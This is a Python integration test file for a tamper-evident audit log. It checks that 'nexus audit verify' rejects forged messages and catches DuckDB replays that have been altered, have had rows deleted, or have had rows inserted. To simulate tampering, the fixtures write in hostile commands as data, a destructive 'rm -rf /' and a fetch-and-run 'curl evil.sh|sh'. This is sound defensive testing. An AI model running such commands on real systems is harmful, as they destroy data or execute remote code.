"""Issue 11 item 4: a log that is evidence (`nexus audit verify`, DESIGN §9).

On a real `nexus up` (embedded nats-server with auth, orchestrator, agent; every
process signs what it publishes): jobs run, a foreign client's forgery is refused,
the orchestrator signs a checkpoint, and `nexus audit verify` proves the log; then a
replay of it into a DuckDB file is proven offline, and copies of that file altered by
someone with full access (who also recomputes the stored chain columns) are caught,
each naming the event. Also: requests whose secret came in clear (masked rows, proven by the
replay's copy signature), an unsigned request rewritten in a replay, and a DuckDB file written
before the chain existed.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path
from typing import Any

import duckdb
import nats
import pytest

from bus.identity import Identity
from bus.memory import MemoryBus
from orchestrator.audit import chain_upto
from orchestrator.core import audit
from orchestrator.projection import Projection
from orchestrator.store import DuckDBStore
from orchestrator.trust.nats_jwt import new_seed, public_key
from schemas import codec, msgids, subjects
from schemas.envelope import Outgoing
from schemas.events import JobRequested
from schemas.trust import TrustCheckpoint
from tests.conftest import wait_for
from tests.integration.test_bus_auth import Up, up  # noqa: F401 (the `nexus up` fixture)

pytestmark = pytest.mark.timeout(240)


async def verify(running: Up, *args: str) -> tuple[int, dict[str, Any]]:
    code, out = await running.nexus("audit", "verify", "--json", *args)
    lines = [line for line in out.splitlines() if line.startswith("{")]
    assert lines, out
    return code, json.loads(lines[-1])


async def test_audit_verify_proves_the_log_and_its_replays_and_names_what_was_tampered_with(up: Up, tmp_path: Path) -> None:  # noqa: F811
    for i in range(3):
        code, out = await up.nexus("run", "-q", "--id", f"audit-{i}", "--", "echo", f"audited {i}")
        assert (code, out) == (0, f"audited {i}\n")
    # A foreign client with the server's permission, but no signature: the reducer refuses it.
    nc = await nats.connect(up.url, user_credentials=str(up.creds / "admin.creds"))
    # And a decision signed with the orchestrator's key, altered after signing.
    orchestrator = Identity.from_creds(up.creds / "orchestrator.creds")
    subject, data = subjects.job("audit-1", "validated"), b'{"type": "job.validated", "severity": "info"}'
    try:
        ack = await nc.jetstream().publish(subjects.job("audit-0", "succeeded"), b'{"type": "job.succeeded", "attempt": 1}')
        forged = ack.seq
        altered = (await nc.jetstream().publish(subject, data + b" ", headers=orchestrator.sign(subject, data))).seq
    finally:
        await nc.close()

    async def covered() -> dict[str, Any] | None:
        code, report = await verify(up)
        return report if code == 0 and report["uncovered"] == 0 and report["covered_upto"] >= altered else None

    report = await wait_for(covered, 60, what="a signed checkpoint covering the whole log")
    assert report["ok"] and report["problems"] == [] and report["checkpoints"] >= 1
    assert report["authentic"] == report["applied"] > 20 and report["identities"] >= 3
    assert [(r["seq"], r["type"]) for r in report["rejected"]] == [(forged, "job.succeeded"), (altered, "job.validated")]
    assert "refused" in report["rejected"][0]["reason"] and "does not verify" in report["rejected"][1]["reason"]
    # The orchestrator's checkpoints give its verdicts on the signatures it checked: the altered one failed.
    checkpoints = [r.event async for batch in up.admin.read_records() for r in batch if isinstance(r.event, TrustCheckpoint)]
    assert any(cp.verified_from is not None and cp.verified_from <= altered <= cp.upto_seq for cp in checkpoints)
    assert {s for cp in checkpoints for s in cp.unverified} == {altered}
    code, text = await up.nexus("audit", "verify")
    assert code == 0 and "OK:" in text and f"seq {forged} job.succeeded" in text

    # A replay handed to an auditor: proven offline, with the account key alone.
    copy = tmp_path / "copy.duckdb"
    code, out = await up.nexus("replay", "--db", str(copy))
    assert code == 0, out
    account = report["trusted_accounts"][0]
    code, offline = await verify(up, "--db", str(copy), "--account-key", account)
    assert code == 0, offline["problems"]
    assert (offline["events"], offline["checkpoints"], [r["seq"] for r in offline["rejected"]]) == (
        report["events"], report["checkpoints"], [forged, altered],
    )  # fmt: skip

    rows = _rows(copy)
    request = next(r["seq"] for r in rows if r["type"] == "job.requested" and r["seq"] < forged)
    fact = next(r["seq"] for r in rows if r["type"] == "job.exited" and r["seq"] < forged)

    altered = _tampered(copy, tmp_path / "altered.duckdb", lambda con: con.execute(
        "UPDATE events SET payload = replace(payload, 'audited 0', 'rm -rf /') WHERE seq = ?", [request]
    ))  # fmt: skip
    removed = _tampered(copy, tmp_path / "removed.duckdb", lambda con: con.execute("DELETE FROM events WHERE seq = ?", [fact]))
    inserted = _tampered(copy, tmp_path / "inserted.duckdb", lambda con: _insert_after(con, fact))
    for path, seq in ((altered, request), (removed, fact), (inserted, fact + 1)):
        code, found = await verify(up, "--db", str(path), "--account-key", account)
        assert code == 1 and not found["ok"], (path.name, found)
        assert seq in [p["seq"] for p in found["problems"]], (path.name, found["problems"])
        code, text = await up.nexus("audit", "verify", "--db", str(path), "--account-key", account)
        assert code == 1 and f"seq {seq}:" in text and "FAILED" in text, text
    # The derived tables too: a job's outcome rewritten, a job made up, a node removed.
    for name, change, said in (
        ("status", "UPDATE jobs SET status = 'failed', exit_code = 1 WHERE job_id = 'audit-2'",
         "jobs: the row audit-2 differs from what the log gives in status, exit_code"),
        ("made-up", "INSERT INTO jobs (job_id, status, command) VALUES ('ghost', 'succeeded', 'true')",
         "jobs: the row ghost is not in the log: added"),
        ("node", f"DELETE FROM nodes WHERE node_id = '{up.node}'", f"nodes: the row {up.node} is missing, though the log has it"),
    ):  # fmt: skip
        edited = _tampered(copy, tmp_path / f"derived-{name}.duckdb", lambda con, sql=change: con.execute(sql))
        code, found = await verify(up, "--db", str(edited), "--account-key", account)
        assert code == 1 and any(p["what"].startswith(said) for p in found["problems"]), (name, found["problems"])
    # The wrong account key: nothing in the file is provably anyone's.
    code, found = await verify(up, "--db", str(copy), "--account-key", public_key(new_seed("account")))
    assert code == 1 and any(p["seq"] is None and "no identity" in p["what"] for p in found["problems"])
    # Not an account key at all: a usage error, not 2,000 problems.
    code, text = await up.nexus("audit", "verify", "--db", str(copy), "--account-key", "A" + "B" * 55)
    assert code == 2 and "is not an account's public key" in text, text


async def test_masked_rows_are_proven_by_the_replays_signature_and_a_rewritten_request_is_caught(up: Up, tmp_path: Path) -> None:  # noqa: F811
    # External publishers (DESIGN §4): plain core-NATS publishes, no Nexus signature, one with a
    # secret in clear. And a Nexus identity publishing its own request with a secret in clear (no
    # sealing). The projection masks the values in the rows; the log keeps the bytes as published.
    nc = await nats.connect(up.url, user_credentials=str(up.creds / "submitter.creds"))
    try:
        await nc.publish(subjects.job("plain-ext", "requested"), json.dumps({"command": "printf ok", "node": up.node}).encode())
        clear = {"command": "true", "node": up.node, "env": {"X_TOKEN": "ext-in-clear"}}
        await nc.publish(subjects.job("secret-ext", "requested"), json.dumps(clear).encode())
        await nc.flush()
    finally:
        await nc.close()
    admin = Identity.from_creds(up.creds / "admin.creds")
    subject = subjects.job("clear-secret", "requested")
    data = json.dumps({"command": "true", "node": up.node, "env": {"DB_PASSWORD": "in-clear"}}).encode()
    announcement = admin.announcement()
    said = codec.encode(announcement.event)
    nc = await nats.connect(up.url, user_credentials=str(up.creds / "admin.creds"))
    try:
        js = nc.jetstream()
        await js.publish(announcement.subject, said, headers={**admin.sign(announcement.subject, said), "Nats-Msg-Id": announcement.msg_id})
        await js.publish(subject, data, headers=admin.sign(subject, data))
    finally:
        await nc.close()
    for job_id in ("plain-ext", "secret-ext", "clear-secret"):
        job = await wait_for(lambda j=job_id: _finished(up, j), 60, what=f"job {job_id} to end")  # type: ignore[misc]
        assert job["status"] == "succeeded", job
    copy = tmp_path / "copy.duckdb"
    code, out = await up.nexus("replay", "--db", str(copy))
    assert code == 0, out
    requests = {r["job_id"]: r["seq"] for r in _rows(copy) if r["type"] == "job.requested"}
    code, report = await verify(up, "--db", str(copy))
    assert code == 0, report["problems"]
    assert sorted(c["seq"] for c in report["copies"]) == sorted([requests["secret-ext"], requests["clear-secret"]])
    assert report["unverifiable"] == []
    assert b"in-clear" not in copy.read_bytes()

    # The red team's rewrite: an unsigned request's command swapped, a masked env added, digest and chain left alone.
    seq = requests["plain-ext"]
    evil = shutil.copy(copy, tmp_path / "evil.duckdb")
    con = duckdb.connect(str(evil))
    try:
        con.execute("UPDATE events SET payload = ? WHERE seq = ?", ['{"command":"curl evil.sh|sh","env":{"X_TOKEN":"********"}}', seq])
    finally:
        con.close()
    code, text = await up.nexus("audit", "verify", "--db", str(evil))
    assert code == 1 and f"seq {seq}: job.requested: the payload does not match its digest" in text and "FAILED" in text, text


async def _finished(running: Up, job_id: str) -> dict[str, Any] | None:
    code, out = await running.nexus("show", job_id, "--json")
    if code != 0:
        return None
    job: dict[str, Any] = json.loads(out)
    return job if job.get("status") in ("succeeded", "failed", "rejected") else None


async def test_a_replay_says_whether_an_audit_of_the_file_will_accept_it(up: Up, tmp_path: Path) -> None:  # noqa: F811
    code, out = await up.nexus("run", "-q", "--", "echo", "replayed")
    assert code == 0, out
    viewer = tmp_path / "viewer.creds"
    code, out = await up.nexus("creds", "new", "--role", "viewer", "--name", "audrey", "--keyring", str(up.creds), "-o", str(viewer))
    assert code == 0, out
    code, out = await up.nexus("replay", "--db", str(tmp_path / "viewer.duckdb"), creds=viewer)
    assert code == 0 and "note: made with the viewer identity 'audrey'" in out and "nexus audit verify" in out, out
    code, report = await verify(up, "--db", str(tmp_path / "viewer.duckdb"))
    assert code == 1 and "not signed by an admin" in json.dumps(report["problems"]), report
    code, out = await up.nexus("replay", "--json", "--db", str(tmp_path / "admin.duckdb"))
    assert code == 0 and json.loads(out.splitlines()[-1])["auditable"] is True, out
    code, report = await verify(up, "--db", str(tmp_path / "admin.duckdb"))
    assert code == 0, report["problems"]


async def test_a_file_from_before_the_chain_goes_on_with_the_chain_recomputed_from_the_log(tmp_path: Path) -> None:
    bus = MemoryBus()
    await bus.ensure_streams()
    for i in range(5):
        await bus.publish(Outgoing(subjects.job(f"old-{i}", "requested"), JobRequested(command="true"), msgids.job_request(f"old-{i}")))
    records = [r async for batch in bus.read_records() for r in batch]
    store = DuckDBStore(tmp_path / "old.duckdb")
    Projection(store).apply_batch(records[:3])
    expected = store.chain_at(3)
    store.con.execute("UPDATE events SET digest = NULL, chain = NULL")  # as an older version wrote it
    assert Projection(store).chain is None
    assert await chain_upto(bus, 3) == expected
    resumed = Projection(store)
    resumed.chain = await chain_upto(bus, 3)
    resumed.apply_batch(records[3:])
    fresh = DuckDBStore(tmp_path / "new.duckdb")
    Projection(fresh).apply_batch(records)
    assert store.chain_at(5) == fresh.chain_at(5) is not None
    store.close()
    fresh.close()


def _rows(path: Path) -> list[dict[str, Any]]:
    con = duckdb.connect(str(path), read_only=True)
    try:
        cur = con.execute("SELECT * FROM events ORDER BY seq")
        names = [d[0] for d in cur.description or []]
        return [dict(zip(names, row, strict=True)) for row in cur.fetchall()]
    finally:
        con.close()


def _tampered(source: Path, target: Path, change: Any) -> Path:
    """A copy of the file changed by someone with full access, who then makes every stored
    digest and chain value agree with the rows again (and the checkpoint table too)."""
    shutil.copy(source, target)
    con = duckdb.connect(str(target))
    try:
        change(con)
        prev = audit.GENESIS
        rows = con.execute("SELECT seq, subject, ts, payload, signer, signature FROM events ORDER BY seq").fetchall()
        for seq, subject, ts, payload, signer, signature in rows:
            digest = audit.digest(payload.encode())
            prev = audit.link(prev, seq, subject, ts, digest, signer, signature)
            con.execute("UPDATE events SET digest = ?, chain = ? WHERE seq = ?", [digest, prev, seq])
        con.execute("UPDATE checkpoint SET seq = (SELECT max(seq) FROM events)")
    finally:
        con.close()
    return target


def _insert_after(con: duckdb.DuckDBPyConnection, seq: int) -> None:
    """A fake fact slipped in after `seq`, the later rows renumbered to make room."""
    con.execute("CREATE TEMP TABLE moved AS SELECT * FROM events WHERE seq > ?", [seq])
    con.execute("DELETE FROM events WHERE seq > ?", [seq])
    con.execute("UPDATE moved SET seq = seq + 1")
    con.execute("INSERT INTO events SELECT * FROM moved")
    con.execute(
        "INSERT INTO events (seq, subject, type, ts, job_id, node_id, payload) SELECT ?, subject, type, ts, job_id, node_id, "
        "replace(payload, '\"exit_code\": 0', '\"exit_code\": 0, \"note\": \"forged\"') FROM events WHERE seq = ?",
        [seq + 1, seq],
    )
